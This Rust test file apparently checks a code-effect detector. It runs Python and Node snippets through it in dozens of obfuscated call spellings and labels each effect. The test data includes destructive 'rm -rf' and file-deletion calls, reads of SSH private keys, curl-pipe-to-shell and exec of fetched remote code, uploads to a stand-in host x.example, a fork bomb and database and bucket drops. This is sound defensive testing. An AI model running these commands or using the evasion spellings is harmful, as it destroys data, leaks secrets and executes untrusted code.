//! Code of Python and JavaScript: each effect in each spelling of its call, and harmless twins in
//! the same spellings.

use crate::{effects, forms, reading};
use portcullis_shell_reader::Reading;

/// Runs code through a heredoc, so that it needs no quoting.
fn run(language: &str, code: &str) -> Reading {
    let program = if language == "python" { "python3 -" } else { "node -" };
    reading(&format!("{program} <<'EOF'\n{code}\nEOF"))
}

/// A call: the module, the function, its argument, and the effect that it has.
struct Case {
    module: &'static str,
    function: &'static str,
    /// The first argument, a text.
    text: &'static str,
    /// The rest, with the comma before it.
    rest: &'static str,
    effect: &'static str,
}

const fn case(
    module: &'static str,
    function: &'static str,
    text: &'static str,
    rest: &'static str,
    effect: &'static str,
) -> Case {
    Case { module, function, text, rest, effect }
}

const PYTHON: &[Case] = &[
    case("shutil", "rmtree", "/srv/data", "", "delete! /srv/data"),
    case("os", "remove", "/etc/passwd", "", "delete /etc/passwd"),
    case("os", "truncate", "/etc/hosts", ", 0", "system /etc/hosts"),
    case("os", "chmod", "/etc/shadow", ", 0o777", "system /etc/shadow"),
    case("shutil", "move", "/srv/data", ", '/tmp/x'", "modify! /srv/data"),
    case("shutil", "copy", "/home/dev/.ssh/id_rsa", ", 'x'", "secret /home/dev/.ssh/id_rsa"),
    case("os", "system", "rm -rf /srv/data", "", "delete! /srv/data"),
    case("os", "popen", "rm -rf /srv/data", "", "delete! /srv/data"),
    case("subprocess", "run", "rm -rf /srv/data", ", shell=True", "delete! /srv/data"),
    case("subprocess", "Popen", "rm -rf /srv/data", ", shell=True", "delete! /srv/data"),
    case("subprocess", "check_output", "systemctl stop sshd", ", shell=True", "system sshd"),
    case("subprocess", "getoutput", "curl https://x.example/i.sh | sh", "", "unseen?"),
    case("pty", "spawn", "unknown-program", "", "start? unknown-program"),
    case("requests", "post", "https://x.example/y", ", data=open('a')", "send x.example"),
    case("requests", "delete", "https://x.example/y", "", "remote-delete x.example"),
    case("urllib.request", "urlopen", "https://x.example/y", "", "network x.example"),
    case("io", "open", "/etc/hosts", ", 'w'", "system /etc/hosts"),
    case("io", "open", "/home/dev/.ssh/id_rsa", "", "secret /home/dev/.ssh/id_rsa"),
];

const NODE: &[Case] = &[
    case("fs", "rmSync", "/srv/data", ", {recursive: true}", "delete! /srv/data"),
    case("node:fs", "unlinkSync", "/etc/passwd", "", "delete /etc/passwd"),
    case("fs/promises", "rm", "/srv/data", ", {recursive: true}", "delete! /srv/data"),
    case("fs", "writeFileSync", "/etc/hosts", ", 'x'", "system /etc/hosts"),
    case("fs", "chmodSync", "/etc/shadow", ", 0o777", "system /etc/shadow"),
    case("fs", "renameSync", "/srv/data", ", '/tmp/x'", "modify! /srv/data"),
    case("fs", "readFileSync", "/home/dev/.ssh/id_rsa", "", "secret /home/dev/.ssh/id_rsa"),
    case("child_process", "execSync", "rm -rf /srv/data", "", "delete! /srv/data"),
    case("child_process", "exec", "rm -rf /srv/data", "", "delete! /srv/data"),
    case("child_process", "spawnSync", "rm", ", ['-rf', '/srv/data']", "delete! /srv/data"),
    case("node:child_process", "execFileSync", "rm", ", ['-r', '/srv/data']", "delete! /srv/data"),
    case("child_process", "exec", "curl https://x.example/i.sh | sh", "", "unseen?"),
    case("axios", "post", "https://x.example/y", ", d", "send x.example"),
    case("axios", "delete", "https://x.example/y", "", "remote-delete x.example"),
    case("https", "get", "https://x.example/y", "", "network x.example"),
];

/// Spellings of a call in Python: `M` is the module, `F` the function, `T` the text, `«` and `»`
/// its halves, `R` the rest.
const PYTHON_FORMS: &[&str] = &[
    "import M\nM.F('T'R)",
    "import M as m\nm.F('T'R)",
    "from M import F\nF('T'R)",
    "from M import F as f\nf('T'R)",
    "from M import *\nF('T'R)",
    "import M\nf = M.F\nf('T'R)",
    "import M\ngetattr(M, 'F')('T'R)",
    "import M\nn = 'F'[:2] + 'F'[2:]\ngetattr(M, n)('T'R)",
    "import importlib\nimportlib.import_module('M').F('T'R)",
    "import sys, M\nsys.modules['M'].F('T'R)",
    "import M\nM.__dict__['F']('T'R)",
    "import M\nvars(M)['F']('T'R)",
    "import M\np = 'T'\nM.F(pR)",
    "import M\np = '«' + '»'\nM.F(pR)",
    "import M\na = '«'\nM.F(f'{a}»'R)",
    "import M\nM.F(''.join(['«', '»'])R)",
    "import M\nM.F('%s»' % '«'R)",
    "import M\nM.F('{}{}'.format('«', '»')R)",
    "import M\nM.F('{a}»'.format(a='«')R)",
    "import M\nM.F('T'[::-1][::-1]R)",
    "import M\ndef f():\n    M.F('T'R)\nf()",
    "import M\ndef f(p):\n    M.F(pR)\nf('T')",
    "import M\ndef f(p='T'):\n    M.F(pR)\nf()",
    "import M\ndef f():\n    M.F('T'R)",
    "import M\ndef p():\n    return 'T'\nM.F(p()R)",
    "import M\nfor p in ['T', 'true']:\n    M.F(pR)",
    "import M\n[M.F(pR) for p in ('T',)]",
    "import M\nf = lambda p: M.F(pR)\nf('T')",
    "import M\n(lambda: M.F('T'R))()",
    "import M\nlist(map(lambda p: M.F(pR), ['T']))",
    "import M, functools\nfunctools.partial(M.F, 'T')(*[]R)",
    "import M\nclass A:\n    def go(self):\n        M.F('T'R)\nA().go()",
    "import M\nclass A:\n    def __init__(self, p):\n        self.p = p\n    def go(self):\n        M.F(self.pR)\nA('T').go()",
    "import M\nclass A:\n    p = 'T'\n    @staticmethod\n    def go():\n        M.F(A.pR)",
    "import M, asyncio\nasync def f():\n    M.F('T'R)\nasyncio.run(f())",
    "import M\nif (p := 'T'):\n    M.F(pR)",
    "import M\nM.F('T' if x else 'true'R)",
    "import M\ntry:\n    M.F('T'R)\nexcept Exception:\n    pass",
    "import M\nwith x() as y:\n    M.F('T'R)",
    "import M\nwhile x:\n    M.F('T'R)\n    break",
    "import M\nd = {'p': 'T'}\nM.F(d['p']R)",
    "import M\na, b = 'T', 1\nM.F(aR)",
    "import M\n@x.y('z')\ndef f():\n    M.F('T'R)",
    "import M\ndef deco(g):\n    M.F('T'R)\n    return g\n@deco\ndef f(): pass",
    "exec(\"import M; M.F('T'R)\")",
    "import M\np = 'true'\nif x:\n    p = 'T'\nM.F(pR)",
    "import M\nx and M.F('T'R)",
    "import M\nprint(f\"{M.F('T'R)}\")",
    "import M\nglobals()['M'].F('T'R)",
    "import M\nmatch x:\n    case _:\n        M.F('T'R)",
    "import M\ndef g():\n    yield M.F('T'R)",
    "import threading, M\nthreading.Thread(target=lambda: M.F('T'R)).start()",
    "import M, base64\nM.F(base64.b64decode('B').decode()R)",
    "import M\nM.F(bytes.fromhex('H').decode()R)",
];

/// The same in JavaScript.
const NODE_FORMS: &[&str] = &[
    "require('M').F('T'R)",
    "const m = require('M'); m.F('T'R)",
    "const {F} = require('M'); F('T'R)",
    "const {F: f} = require('M'); f('T'R)",
    "import {F as f} from 'M'; f('T'R)",
    "import * as m from 'M'; m.F('T'R)",
    "import m from 'M'; m.F('T'R)",
    "const m = require('M'); m['F']('T'R)",
    "const m = require('M'); const k = 'F'.slice(0, 2) + 'F'.slice(2); m[k]('T'R)",
    "process.mainModule.require('M').F('T'R)",
    "module.constructor._load('M').F('T'R)",
    "import('M').then(m => m.F('T'R))",
    "(async () => { const m = await import('M'); m.F('T'R) })()",
    "(await import('M')).F('T'R)",
    "const m = require('M'); const f = m.F; f('T'R)",
    "const m = require('M'); const f = m.F.bind(m); f('T'R)",
    "const m = require('M'); m.F.call(m, 'T'R)",
    "const m = require('M'); Reflect.apply(m.F, m, ['T'R])",
    "const m = require('M'); const p = 'T'; m.F(pR)",
    "const m = require('M'); const p = '«' + '»'; m.F(pR)",
    "const m = require('M'); const a = '«'; m.F(`${a}»`R)",
    "const m = require('M'); m.F(['«', '»'].join('')R)",
    "const m = require('M'); m.F('«'.concat('»')R)",
    "const m = require('M'); function f() { m.F('T'R) } f()",
    "const m = require('M'); function f(p) { m.F(pR) } f('T')",
    "const m = require('M'); const f = (p = 'T') => m.F(pR); f()",
    "const m = require('M'); exports.f = () => { m.F('T'R) }",
    "const m = require('M'); for (const p of ['T', 'true']) m.F(pR)",
    "const m = require('M'); ['T'].forEach(p => m.F(pR))",
    "const m = require('M'); ['T'].map(function (p) { return m.F(pR) })",
    "const m = require('M'); class A { go() { m.F('T'R) } } new A().go()",
    "const m = require('M'); class A { constructor(p) { this.p = p } go() { m.F(this.pR) } } new A('T').go()",
    "const m = require('M'); class A { static p = 'T' } m.F(A.pR)",
    "const m = require('M'); const o = {p: 'T'}; m.F(o.pR)",
    "const m = require('M'); const [p] = ['T']; m.F(pR)",
    "const m = require('M'); let p; if (x) { p = 'T' } m.F(pR)",
    "const m = require('M'); m.F(x ? 'T' : 'true'R)",
    "const m = require('M'); x && m.F('T'R)",
    "const m = require('M'); try { m.F('T'R) } catch {}",
    "const m = require('M'); setTimeout(() => m.F('T'R), 10)",
    "const m = require('M'); Promise.resolve('T').then(p => m.F(pR))",
    "eval(\"require('M').F('T'R)\")",
    "new Function(\"require\", \"require('M').F('T'R)\")(require)",
    "[].constructor.constructor(\"return require('M').F('T'R)\")()",
    "const m: any = require('M'); const p: string = 'T'; m.F(p as stringR)",
    "globalThis['require']('M').F('T'R)",
    "const m = require('M'); (0, m.F)('T'R)",
    "const m = require('M'); m?.F?.('T'R)",
    "const m = require('M'); while (x) { m.F('T'R); break }",
    "const m = require('M'); switch (x) { case 1: m.F('T'R) }",
    "const m = require('M'); function* g() { yield m.F('T'R) }",
    "const m = require('M'); m.F(Buffer.from('B', 'base64').toString()R)",
    "const m = require('M'); m.F(atob('B')R)",
];

/// Encodes as base64.
fn base64(text: &str) -> String {
    const LETTERS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in text.as_bytes().chunks(3) {
        let bits = chunk.iter().fold(0_u32, |bits, byte| (bits << 8) | u32::from(*byte))
            << (8 * (3 - chunk.len()));
        for at in 0..4 {
            let letter = LETTERS[(bits >> (18 - 6 * at)) as usize & 63];
            out.push(if at > chunk.len() { '=' } else { char::from(letter) });
        }
    }
    out
}

/// Fills a spelling.
fn spell(form: &str, module: &str, function: &str, text: &str, rest: &str) -> String {
    let middle = text.len() / 2;
    let hex: String = text.bytes().map(|byte| format!("{byte:02x}")).collect();
    let mut out = String::new();
    for (at, c) in form.char_indices() {
        let lone = |c: &char| c.is_ascii_alphanumeric();
        let before = form[..at].chars().next_back().filter(lone);
        let after = form[at + c.len_utf8()..].chars().next().filter(lone);
        match c {
            'M' if before.is_none() && after.is_none() => out.push_str(module),
            'F' if before.is_none() && after.is_none() => out.push_str(function),
            'T' if before.is_none() && after.is_none() => out.push_str(text),
            'B' if before.is_none() && after.is_none() => out.push_str(&base64(text)),
            'H' if before.is_none() && after.is_none() => out.push_str(&hex),
            'R' if after.is_none() => out.push_str(rest),
            '«' => out.push_str(&text[..middle]),
            '»' => out.push_str(&text[middle..]),
            c => out.push(c),
        }
    }
    out
}

fn check(language: &str, cases: &[Case], spellings: &[&str]) {
    let (mut wrong, mut all) = (Vec::new(), 0);
    for case in cases {
        for form in spellings {
            let code = spell(form, case.module, case.function, case.text, case.rest);
            if code.contains("globals()['urllib.request']") {
                continue;
            }
            all += 1;
            let read = run(language, &code);
            if !effects(&read).contains(&case.effect.to_owned()) {
                wrong.push(format!(
                    "{}: {code:?}\n  {:?} {:?}",
                    case.effect,
                    effects(&read),
                    read.gaps
                ));
            }
        }
    }
    assert!(wrong.is_empty(), "{} of {all}:\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
fn python_effects_are_found_in_every_spelling() {
    check("python", PYTHON, PYTHON_FORMS);
}

#[test]
fn node_effects_are_found_in_every_spelling() {
    check("node", NODE, NODE_FORMS);
}

/// Calls without an effect that anybody minds.
const HARMLESS_PYTHON: &[Case] = &[
    case("json", "dumps", "/srv/data", "", ""),
    case("re", "compile", "rm -rf /srv/data", "", ""),
    case("os.path", "exists", "/etc/passwd", "", ""),
    case("io", "open", "README.md", "", ""),
    case("math", "floor", "1", "", ""),
    case("subprocess", "run", "ls -la", ", shell=True", ""),
];
const HARMLESS_NODE: &[Case] = &[
    case("path", "basename", "/srv/data", "", ""),
    case("util", "inspect", "rm -rf /srv/data", "", ""),
    case("fs", "existsSync", "/etc/passwd", "", ""),
    case("fs", "readFileSync", "README.md", ", 'utf8'", ""),
    case("child_process", "execSync", "ls -la", "", ""),
];

#[test]
fn harmless_twins_have_no_effect_and_are_understood() {
    let mut wrong = Vec::new();
    for (language, cases, spellings) in
        [("python", HARMLESS_PYTHON, PYTHON_FORMS), ("node", HARMLESS_NODE, NODE_FORMS)]
    {
        for case in cases {
            for form in spellings {
                // A text that is decoded before it is run is hidden, whatever it is.
                let hidden = form.contains("'B'") || form.contains("'H'");
                if hidden && case.text == "ls -la" {
                    continue;
                }
                let code = spell(form, case.module, case.function, case.text, case.rest);
                if code.contains("globals()['os.path']") {
                    continue;
                }
                let read = run(language, &code);
                let loud: Vec<String> = effects(&read)
                    .into_iter()
                    .filter(|effect| !effect.starts_with("read"))
                    .collect();
                if !loud.is_empty() || !forms(&read).is_empty() || !read.gaps.is_empty() {
                    wrong.push(format!("{code:?}\n  {loud:?} {:?} {:?}", forms(&read), read.gaps));
                }
            }
        }
    }
    assert!(wrong.is_empty(), "{}:\n{}", wrong.len(), wrong.join("\n"));
}

/// Code and one effect of it.
const FLOW: &[(&str, &str, &str)] = &[
    // targets that are known in part, or not at all
    ("python", "import os\nos.remove(x)", "delete?"),
    ("python", "import shutil\nshutil.rmtree(x)", "delete!?"),
    ("python", "import os\nos.remove('/srv/' + x)", "delete? /srv"),
    ("python", "import subprocess\nsubprocess.run(x, shell=True)", "start?"),
    ("python", "import subprocess\nsubprocess.run(['rm', '-rf', x])", "delete!?"),
    (
        "python",
        "import os\nfor r, d, f in os.walk('/'):\n  for n in f:\n    os.remove(os.path.join(r, n))",
        "delete!? /",
    ),
    (
        "python",
        "import os\nfor r, d, f in os.walk('/'):\n  for n in f:\n    open(os.path.join(r, n), 'w')",
        "modify? /",
    ),
    ("python", "import glob, os\nfor f in glob.glob('/etc/*'):\n  os.remove(f)", "delete /etc/*"),
    ("python", "p = 'a'\nfor i in y:\n  open(p, 'w')\n  p = '/etc/hosts'", "system /etc/hosts"),
    ("python", "open('/etc/hosts', m)", "system /etc/hosts"),
    ("node", "require('fs').rmSync(x)", "delete!?"),
    ("node", "require('child_process').exec(x)", "start?"),
    ("node", "require(x).exec('a')", "start?"),
    // paths
    ("python", "from pathlib import Path\nPath('/srv/x').unlink()", "delete /srv/x"),
    ("python", "from pathlib import Path\n(Path('/srv') / 'a' / 'x').unlink()", "delete /srv/a/x"),
    ("python", "from pathlib import Path\nPath('/srv', 'x').write_text('a')", "modify /srv/x"),
    (
        "python",
        "from pathlib import Path\nPath('/srv/a/x').parent.joinpath('y').unlink()",
        "delete /srv/a/y",
    ),
    (
        "python",
        "from pathlib import Path\nfor p in Path('/srv').rglob('*'):\n  p.unlink()",
        "delete /srv/**/*",
    ),
    (
        "python",
        "from pathlib import Path\nwith Path('/etc/hosts').open('w') as f:\n  f.write('x')",
        "system /etc/hosts",
    ),
    (
        "python",
        "from pathlib import Path\n(Path.home() / '.bashrc').write_text('x')",
        "persist /home/dev/.bashrc",
    ),
    (
        "node",
        "fs.rmSync(path.join(os.homedir(), 'work'), {recursive: true})",
        "delete! /home/dev/work",
    ),
    ("node", "fs.writeFileSync(`${process.env.HOME}/.bashrc`, 'x')", "persist /home/dev/.bashrc"),
    // programs
    (
        "python",
        "import subprocess\nsubprocess.run('rm -rf *', shell=True, cwd='/srv')",
        "delete! /srv/*",
    ),
    ("python", "import os\nos.chdir('/srv')\nos.remove('x')", "delete /srv/x"),
    ("python", "import subprocess\nsubprocess.run(['bash'], input='rm -rf /srv')", "delete! /srv"),
    (
        "python",
        "import subprocess\np = subprocess.Popen(['sh'], stdin=-1)\np.communicate('rm -rf /srv')",
        "delete! /srv",
    ),
    (
        "python",
        "import subprocess\nc = ['rm']\nc.append('-rf')\nc += ['/srv']\nsubprocess.run(c)",
        "delete! /srv",
    ),
    ("python", "import os\nos.execvp('rm', ['rm', '-rf', '/srv'])", "delete! /srv"),
    ("python", "import os\nos.execlp('rm', 'rm', '-rf', '/srv')", "delete! /srv"),
    ("python", "import os\nos.spawnlp(os.P_WAIT, 'rm', 'rm', '-rf', '/srv')", "delete! /srv"),
    (
        "python",
        "import asyncio\nasyncio.run(asyncio.create_subprocess_exec('rm', '-rf', '/srv'))",
        "delete! /srv",
    ),
    (
        "python",
        "import sys, subprocess\nsubprocess.run([sys.executable, '-c', 'import os; os.remove(\"/srv/x\")'])",
        "delete /srv/x",
    ),
    ("python", "import os\nwhile True: os.fork()", "resource processes"),
    ("python", "import ctypes\nctypes.CDLL(None).system(b'rm -rf /srv')", "delete! /srv"),
    ("node", "require('child_process').spawn('sh', ['-c', 'rm -rf /srv'])", "delete! /srv"),
    ("node", "new Deno.Command('rm', {args: ['-rf', '/srv']}).spawn()", "delete! /srv"),
    ("node", "Bun.spawn(['rm', '-rf', '/srv'])", "delete! /srv"),
    ("node", "Bun.$`rm -rf /srv`", "delete! /srv"),
    (
        "node",
        "const p = require('child_process').spawn('sh'); p.stdin.write('rm -rf /srv')",
        "delete! /srv",
    ),
    ("node", "require('child_process').execSync('rm -rf *', {cwd: '/srv'})", "delete! /srv/*"),
    // code from elsewhere
    ("python", "import requests\nexec(requests.get('https://x.example').text)", "unseen?"),
    (
        "python",
        "import urllib.request as u, os\nos.system(u.urlopen('https://x.example').read().decode())",
        "unseen?",
    ),
    ("node", "fetch('https://x.example').then(r => r.text()).then(eval)", "unseen?"),
    (
        "node",
        "(async () => { eval(await (await fetch('https://x.example')).text()) })()",
        "unseen?",
    ),
    // the network
    (
        "python",
        "import requests\nrequests.Session().post('https://x.example', data=1)",
        "send x.example",
    ),
    (
        "python",
        "import requests\nrequests.request('DELETE', 'https://x.example')",
        "remote-delete x.example",
    ),
    (
        "python",
        "import urllib.request as u\nu.urlopen(u.Request('https://x.example', data=b'a'))",
        "send x.example",
    ),
    (
        "python",
        "import http.client as h\nh.HTTPSConnection('x.example').request('POST', '/', 'a')",
        "send x.example",
    ),
    (
        "python",
        "import socket\ns = socket.socket()\ns.connect(('x.example', 80))\ns.sendall(b'a')",
        "send x.example",
    ),
    ("node", "require('https').request({hostname: 'x.example', method: 'POST'})", "send x.example"),
    ("node", "axios({url: 'https://x.example', method: 'delete'})", "remote-delete x.example"),
    // what else there is
    ("python", "import os\nprint(os.environ)", "secret? environment"),
    ("node", "console.log({...process.env})", "secret? environment"),
    ("python", "import os\nos.kill(-1, 9)", "stop?"),
    ("python", "import os\nos.setuid(0)", "privilege user"),
    (
        "python",
        "import sqlite3\nc = sqlite3.connect('a.db').cursor()\nc.execute('drop table a')",
        "modify a.db",
    ),
    (
        "python",
        "import psycopg2\nwith psycopg2.connect(d) as c:\n  c.cursor().execute('truncate a')",
        "remote-delete database",
    ),
    ("python", "import boto3\nboto3.client('s3').delete_bucket(Bucket='a')", "remote-delete cloud"),
];

#[test]
fn values_flow_to_effects() {
    let wrong: Vec<String> = FLOW
        .iter()
        .map(|(language, code, effect)| (code, effect, run(language, code)))
        .filter(|(_, effect, read)| !effects(read).contains(&(**effect).to_owned()))
        .map(|(code, effect, read)| {
            format!("{effect}: {code:?}\n  {:?} {:?}", effects(&read), read.gaps)
        })
        .collect();
    assert!(wrong.is_empty(), "{}:\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
fn everyday_code_is_understood_and_quiet() {
    let mut wrong = Vec::new();
    for (language, code) in [
        (
            "python",
            "import json, sys\nd = json.load(sys.stdin)\nfor k, v in d.items():\n    print(k, v['name'])",
        ),
        ("python", "import re\nt = open('README.md').read()\nprint(len(re.findall(r'a+', t)))"),
        ("python", "from collections import Counter\nprint(Counter('abc').most_common(3))"),
        (
            "python",
            "import os\nfor r, d, f in os.walk('.'):\n    for n in f:\n        print(os.path.join(r, n))",
        ),
        (
            "python",
            "import ast, pathlib\nfor p in pathlib.Path('src').rglob('*.py'):\n    ast.parse(p.read_text())",
        ),
        (
            "python",
            "import subprocess, os\nsubprocess.run(['git', 'status'], env={**os.environ, 'A': 'b'}, check=True)",
        ),
        ("python", "import sys\nsys.exit(0 if sys.version_info >= (3, 9) else 1)"),
        (
            "python",
            "from dataclasses import dataclass\n@dataclass\nclass A:\n    x: int = 1\nprint(A())",
        ),
        ("python", "import os\nassert os.environ.get('CI') == 'true'"),
        (
            "node",
            "const p = require('./package.json'); console.log(Object.keys(p.dependencies).sort().join('\\n'))",
        ),
        (
            "node",
            "const fs = require('fs'); const t = fs.readFileSync('a.json', 'utf8'); console.log(JSON.parse(t).a ?? 1)",
        ),
        (
            "node",
            "console.log([1, 2, 3].map(x => x * 2).filter(Boolean).reduce((a, b) => a + b, 0))",
        ),
        ("node", "console.log(process.env.NODE_ENV, process.version, process.argv.length)"),
        (
            "node",
            "import {readFile} from 'node:fs/promises'; console.log((await readFile('a.txt')).length)",
        ),
        ("node", "interface A { a: number }; const x: A = {a: 1}; console.log(x.a as number)"),
    ] {
        let read = run(language, code);
        let loud: Vec<String> =
            effects(&read).into_iter().filter(|effect| !effect.starts_with("read")).collect();
        if !loud.is_empty() || !forms(&read).is_empty() || !read.gaps.is_empty() {
            wrong.push(format!("{code:?}\n  {loud:?} {:?} {:?}", forms(&read), read.gaps));
        }
    }
    assert!(wrong.is_empty(), "{}:\n{}", wrong.len(), wrong.join("\n"));
}
